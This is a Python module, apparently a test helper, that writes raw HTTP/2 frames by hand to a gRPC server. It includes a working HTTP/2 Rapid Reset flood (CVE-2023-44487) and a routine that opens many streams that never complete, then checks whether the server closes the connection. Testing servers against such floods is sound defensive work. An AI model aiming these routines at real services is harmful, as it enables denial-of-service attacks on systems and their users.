"""HTTP/2 by hand: what no well-made client sends. Only requests are made; of answers the kinds of frames are read."""

from __future__ import annotations

import socket
from collections.abc import Sequence
from typing import Self

from admin.bind import parts_of

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = (8).to_bytes(4, "big")
TIMEOUT_S = 60.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, 4.1."""
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def call_headers(path: str, *more: tuple[str, str]) -> bytes:
    """The header block of a gRPC call, nothing of it indexed (RFC 7541, 6.2.2)."""
    fields = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "node"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    )
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)


class RawConnection:
    """A connection that has said its preface; a context manager."""

    def __init__(self, address: str) -> None:
        self.socket = socket.create_connection(parts_of(address), TIMEOUT_S)
        self._next = 1
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def open_and_reset(self, headers: bytes, count: int) -> None:
        """So many calls, each given up in the same breath (CVE-2023-44487)."""
        frames: list[bytes] = []
        for _ in range(count):
            frames += (
                frame(HEADERS, END_HEADERS, self._next, headers),
                frame(RST_STREAM, 0, self._next, CANCEL),
            )
            self._next += 2
        self.socket.sendall(b"".join(frames))

    def open(self, headers: bytes, count: int) -> None:
        """So many calls whose request never comes."""
        streams = range(self._next, self._next + 2 * count, 2)
        self._next += 2 * count
        self.socket.sendall(b"".join(frame(HEADERS, END_HEADERS, n, headers) for n in streams))

    def send(self, frames: Sequence[bytes]) -> bool:
        """Send; whether the other side still took it."""
        try:
            self.socket.sendall(b"".join(frames))
        except OSError:
            return False
        return True

    def hear(self, kind: int) -> None:
        """Read up to the next frame of this kind, and through it.

        Raises:
            OSError: none comes.
        """
        while True:
            head = self._read(9)
            self._read(int.from_bytes(head[:3], "big"))
            if head[3] == kind:
                return

    def _read(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            if not (more := self.socket.recv(size - len(data))):
                raise ConnectionResetError
            data += more
        return data


def is_closed(connection: socket.socket) -> bool:
    """Read until the other side closes the connection.

    Raises:
        TimeoutError: it does not.
    """
    connection.settimeout(TIMEOUT_S)
    try:
        while connection.recv(65_536):
            pass
    except ConnectionError:
        pass
    return True


def _text(text: str) -> bytes:
    data = text.encode()
    return _length(len(data)) + data


def _length(number: int) -> bytes:
    """An integer with a 7-bit prefix (RFC 7541, 5.1)."""
    if number < 127:
        return bytes((number,))
    number -= 127
    coded = [127]
    while number >= 128:
        coded.append(number % 128 + 128)
        number //= 128
    return bytes((*coded, number))
